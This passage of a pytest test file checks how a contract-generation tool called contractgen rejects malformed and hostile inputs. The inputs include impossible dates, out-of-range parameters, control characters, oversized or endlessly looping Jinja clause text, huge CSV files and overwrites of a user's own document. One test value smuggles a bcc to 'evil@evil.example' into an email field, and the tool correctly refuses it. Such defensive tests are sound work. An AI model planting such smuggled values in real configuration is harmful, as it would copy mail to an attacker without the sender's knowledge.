     "number; give a number from 1 to 9999, or text such as 7A"),
    ("profiles/regions/north-west.yaml", "email: dspt-support@northshire-care.example.org",
     "email: x@y.org?bcc=evil@evil.example",
     "profiles/regions/north-west.yaml:7:5: contacts.lso.email: 'x@y.org?bcc=evil@evil.example' is not an email "
     "address; write the address alone, such as dspt@council.gov.uk (no spaces, no ? or other link parts)"),
])
def test_hostile_profile_value(ws: Path, file: str, old: str, new: str, problem: str):
    path = ws / file
    path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")
    assert refused("schedule", "example-borough")[0] == problem
    assert refused("validate")[0] == problem


# ------------------------------------------------------------------------------- dates and parameters

NO_DATE = "the date {} does not exist (check the day, the month and the year); write it as YYYY-MM-DD, e.g. 2026-04-01"
NOT_BETWEEN = "{} is not between 2000-01-01 and 2099-12-31; check the year"


@pytest.mark.parametrize("value, problem", [
    ("2026-02-31", "16:15: contract.start_date: " + NO_DATE.format("2026-02-31")),
    ("0001-01-01", "16:3: contract.start_date: " + NOT_BETWEEN.format("0001-01-01")),
    ("9999-12-31", "16:3: contract.start_date: " + NOT_BETWEEN.format("9999-12-31")),
])
def test_impossible_or_extreme_dates_in_a_profile(ws: Path, value: str, problem: str):
    profile = ws / "profiles/example-borough.yaml"
    profile.write_text(profile.read_text(encoding="utf-8").replace("start_date: 2026-04-01", f"start_date: {value}"), encoding="utf-8")
    assert refused("schedule", "example-borough")[0] == f"profiles/example-borough.yaml:{problem}"
    assert refused("validate")[0] == f"profiles/example-borough.yaml:{problem}"


def test_an_impossible_date_in_the_workspace_file(ws: Path):
    config = ws / "contractgen.yaml"
    config.write_text(config.read_text(encoding="utf-8").replace("as_of: 2026-11-26", "as_of: 2026-02-30", 1), encoding="utf-8")
    assert refused("validate")[0] == "contractgen.yaml:22:14: build.letters[0].as_of: " + NO_DATE.format("2026-02-30")


@pytest.mark.parametrize("value", ["9999-12-31", "0001-01-01"])
def test_an_extreme_as_of_is_a_usage_error(ws: Path, value: str):
    for command in (LETTERS[:4] + ("--no-dspt",), ("overview", "example-borough", "-p", LETTERS[3], "--dspt", "examples/dspt-export-2026-11-26.csv")):
        result = run_cli(*command, "--as-of", value)
        assert result.exit_code == 2
        assert result.stderr.splitlines()[-1] == f"Error: Invalid value for '--as-of': {NOT_BETWEEN.format(value)}"


REMEDIAL_PLAN = (
    "Working Days within which the Provider sends the Council a Remedial Plan after a shortfall, and a revised plan "
    "after the Council asks for changes."
)
REMEDIAL_PERIOD = (
    "Latest number of months after the date of a Remedial Plan by which the Provider publishes at its Tier's minimum "
    "DSPT Status, unless the Council agrees a later date."
)


@pytest.mark.parametrize("setting, problem", [
    ("remedial_plan_working_days: -5", f"remedial_plan_working_days: must be a whole number from 1 to 250 (got -5) ({REMEDIAL_PLAN})"),
    ("remedial_period_months: 100000", f"remedial_period_months: must be a whole number from 1 to 60 (got 100000) ({REMEDIAL_PERIOD})"),
    ("remedial_plan_working_days: 10000000", f"remedial_plan_working_days: must be a whole number from 1 to 250 (got 10000000) ({REMEDIAL_PLAN})"),
])
def test_a_parameter_out_of_range(ws: Path, setting: str, problem: str):
    profile = ws / "profiles/example-borough.yaml"
    profile.write_text(profile.read_text(encoding="utf-8") + f"parameters:\n  {setting}\n", encoding="utf-8")
    line = len(profile.read_text(encoding="utf-8").splitlines())
    expected = f"profiles/example-borough.yaml:{line}:3: parameters.{problem}"
    assert refused("schedule", "example-borough")[0] == expected
    assert refused("validate")[0] == expected
    assert refused(*LETTERS, "--no-dspt")[0] == expected


def test_a_nul_byte_in_a_profile(ws: Path):
    profile = ws / "profiles/example-borough.yaml"
    profile.write_text(profile.read_text(encoding="utf-8").replace("short_name: EBC", "short_name: E\0BC"), encoding="utf-8")
    problem = (
        "profiles/example-borough.yaml:5:16: contains the control character U+0000, which a YAML file cannot hold; "
        "delete it (it is often pasted invisibly from another program)"
    )
    assert refused("schedule", "example-borough")[0] == problem
    assert refused("validate")[0] == problem


def test_git_setup_when_gitattributes_is_a_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    import subprocess

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / ".gitattributes").mkdir()
    monkeypatch.chdir(tmp_path)
    assert refused("git-setup") == [
        "error: .gitattributes is not a file (a folder or a broken link); git reads .gitattributes as a text file: "
        "move it away, then run git-setup again"
    ]


# ------------------------------------------------------------------------------- command-line values

@pytest.mark.parametrize("args, error", [
    (("schedule", "example-borough", "-o", ""),
     "Error: Invalid value for '--output' / '-o': is empty: give a file or folder name, such as out/schedule.docx"),
    ((*LETTERS, "--no-dspt", "-o", " "),
     "Error: Invalid value for '--output' / '-o': is empty: give a file or folder name, such as out/schedule.docx"),
    (("diff", "--format", "docx", "-o", "d.docx", "--author", "a\x01b"),
     "Error: Invalid value for '--author': contains the control character U+0001, which a Word document cannot "
     "hold; type the name without it"),
])
def test_a_bad_command_line_value_is_named(ws: Path, args: tuple[str, ...], error: str):
    result = run_cli(*args)
    assert result.exit_code == 2
    assert result.stderr.splitlines()[-1] == error
    assert files_under(ws / "out") == [] and not (ws / "d.docx").exists()


# ------------------------------------------------------------------------------- slow inputs

def test_a_clause_text_over_the_limit_is_refused_quickly(ws: Path):
    import time

    clause = ws / "clause_library/clauses/dspt.support.yaml"
    clause.write_text(clause.read_text(encoding="utf-8").replace("text: |\n", "text: |\n  " + "*a" * 60000 + "\n\n", 1), encoding="utf-8")
    problem = (
        "clause_library/clauses/dspt.support.yaml:12:1: text: the text is 121,423 characters, more than the limit of "
        "20,000 for one clause; split it into several clauses"
    )
    started = time.monotonic()
    assert refused("validate")[0] == problem
    assert refused("schedule", "example-borough")[0] == problem
    assert time.monotonic() - started < 10


def test_a_clause_that_renders_too_much_markdown_is_refused(ws: Path):
    clause = ws / "clause_library/clauses/dspt.support.yaml"
    clause.write_text(clause.read_text(encoding="utf-8").replace("text: |\n", "text: |\n  {{ '*a' * 50000 }}\n\n", 1), encoding="utf-8")
    lines = refused("schedule", "example-borough")
    assert lines[0].startswith("clause_library/clauses/dspt.support.yaml:12:1: text: cannot render clause text: the text would be ")
    assert lines[0].endswith(" characters, more than the limit of 50,000 for one clause; check the {{ }} tags")
    assert refused("validate")[0] == lines[0]


ROWS = (
    "the table has more than 100,000 rows, more than contractgen reads (the national DSPT export has tens of "
    "thousands); is it the right file? Filter it to the organisations you need"
)


def test_a_table_over_the_row_limit_is_refused_quickly(ws: Path):
    import time

    rows = "".join(f"X{i:06d},ORG {i},25/26 Standards Met,12/06/2026,Care Home\n" for i in range(100_001))
    (ws / "examples/big.csv").write_text("Code,Organisation Name,Status,Date Of Publication,Primary Sector\n" + rows, encoding="utf-8")
    register = "".join(f"Org {i},X{i:06d},,,,yes,core\n" for i in range(100_001))
    (ws / "examples/big-register.csv").write_text(",".join(build_corpus().REGISTER_HEADER) + "\n" + register, encoding="utf-8")
    overview = ("overview", "example-borough", "--as-of", "2026-11-26")
    started = time.monotonic()
    assert refused(*LETTERS, "--dspt", "examples/big.csv") == [f"examples/big.csv: {ROWS}"]
    assert refused(*overview, "-p", LETTERS[3], "--dspt", "examples/big.csv") == [f"examples/big.csv: {ROWS}"]
    assert refused(*overview, "-p", "examples/big-register.csv", "--dspt", "examples/dspt-export-2026-11-26.csv") == [
        f"examples/big-register.csv: {ROWS}"
    ]
    assert time.monotonic() - started < 30


@pytest.mark.slow
def test_validate_is_no_slower_than_the_command_on_an_endless_loop(ws: Path):
    """One render stopped by the time limit ends the test renders: the same clause would
    stop every other profile and tier (123 s before, for 6 renders of 20 s)."""
    import time

    clause = ws / "clause_library/clauses/dspt.support.yaml"
    clause.write_text(clause.read_text(encoding="utf-8").replace("text: |\n", f"text: |\n  Bad {jinja('endless-loop.j2')} here.\n\n", 1), encoding="utf-8")
    started = time.monotonic()
    lines = refused("validate")
    took = time.monotonic() - started
    assert lines[0] == (
        "clause_library/clauses/dspt.support.yaml:12:1: text: cannot render clause text: rendering took longer than 2 "
        "seconds (a loop too large?); check the {{ }} tags"
    )
    assert len(lines) == 2
    assert took < 2 * 2 + 8, took


def test_schedule_never_replaces_a_file_contractgen_did_not_write(ws: Path):
    """The overwrite rule (issue 16) against a hostile -o: someone's own document."""
    mine = ws / "contract.docx"
    shutil.copy(HOSTILE / "templates/macro.docx", mine)
    before = mine.read_bytes()
    assert refused("schedule", "example-borough", "-o", "contract.docx") == [
        "error: contract.docx already exists and contractgen did not write it; use --force to overwrite it, or "
        "choose another file with -o"
    ]
    assert mine.read_bytes() == before
